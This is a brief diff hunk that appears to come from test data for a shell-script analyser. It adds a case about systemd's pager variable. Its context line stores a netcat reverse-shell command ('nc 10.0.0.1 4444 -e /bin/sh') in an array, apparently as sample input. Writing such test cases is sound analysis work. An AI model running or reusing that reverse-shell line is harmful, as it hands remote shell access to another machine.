@@ -273,3 +273,5 @@ cmd=(nc 10.0.0.1 4444 -e /bin/sh)
 cmd=(batch -f)
 "${cmd[@]}" "$job"
 "${cmd[0]}"
+#@ pos systemd's pager variable is analysed
+SYSTEMD_PAGER='less -FRX' journalctl -b
